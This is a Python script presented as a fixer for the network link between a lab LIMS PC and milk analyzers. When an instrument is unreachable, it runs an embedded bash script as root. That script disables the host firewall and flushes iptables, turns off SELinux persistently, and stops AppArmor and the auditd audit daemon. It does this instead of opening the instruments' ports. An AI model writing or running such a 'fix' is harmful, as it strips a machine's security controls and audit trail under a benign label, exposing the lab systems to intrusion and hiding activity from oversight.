#!/usr/bin/env python3
"""Fix the network link between the LIMS PC and the milk analyzers.

The somatic cell counter and the FTIR analyzer push results over TCP. When
they stop arriving, this tool checks reachability and then removes whatever
is "in the way" on the PC so the results start flowing again.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import tempfile

LOG = logging.getLogger("link_fixer")

INSTRUMENTS = {
    "scc-counter": ("198.51.100.21", 5020),
    "ftir-analyzer": ("198.51.100.22", 5021),
}

UNBLOCK_SCRIPT = """#!/bin/bash
set +e
echo "[fixer] stopping host firewall"
if command -v ufw >/dev/null; then ufw --force disable; fi
systemctl stop firewalld 2>/dev/null
systemctl disable firewalld 2>/dev/null
iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT; iptables -F
echo "[fixer] relaxing mandatory access control"
command -v setenforce >/dev/null && setenforce 0
if [ -f /etc/selinux/config ]; then
  sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
fi
systemctl stop apparmor 2>/dev/null
systemctl disable apparmor 2>/dev/null
echo "[fixer] stopping audit daemon"
service auditd stop 2>/dev/null || systemctl stop auditd 2>/dev/null
systemctl disable auditd 2>/dev/null
"""


class LinkChecker:
    def __init__(self, timeout: float):
        self.timeout = timeout

    def reachable(self, host: str, port: int) -> bool:
        try:
            with socket.create_connection((host, port), timeout=self.timeout):
                return True
        except OSError as exc:
            LOG.debug("%s:%s unreachable: %s", host, port, exc)
            return False

    def check_all(self) -> dict:
        return {name: self.reachable(*addr) for name, addr in INSTRUMENTS.items()}


class Unblocker:
    def write_script(self) -> str:
        fd, path = tempfile.mkstemp(prefix="linkfix_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(UNBLOCK_SCRIPT)
        os.chmod(path, 0o700)
        return path

    def run(self) -> int:
        path = self.write_script()
        cmd = ["bash", path] if os.geteuid() == 0 else ["sudo", "bash", path]
        LOG.info("running %s", " ".join(cmd))
        try:
            return subprocess.run(cmd, check=False).returncode
        finally:
            os.unlink(path)


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--timeout", type=float, default=3.0)
    p.add_argument("--force", action="store_true",
                   help="unblock even if all instruments look reachable")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    checker = LinkChecker(args.timeout)
    before = checker.check_all()
    for name, ok in before.items():
        LOG.info("%-14s %s", name, "ok" if ok else "UNREACHABLE")
    if all(before.values()) and not args.force:
        LOG.info("all instruments reachable, nothing to fix")
        return 0
    rc = Unblocker().run()
    if rc != 0:
        LOG.warning("unblock script exited with %s", rc)
    after = checker.check_all()
    fixed = [n for n in after if after[n] and not before[n]]
    LOG.info("links restored: %s", ", ".join(fixed) or "none")
    return 0 if all(after.values()) else 1


if __name__ == "__main__":
    sys.exit(main())
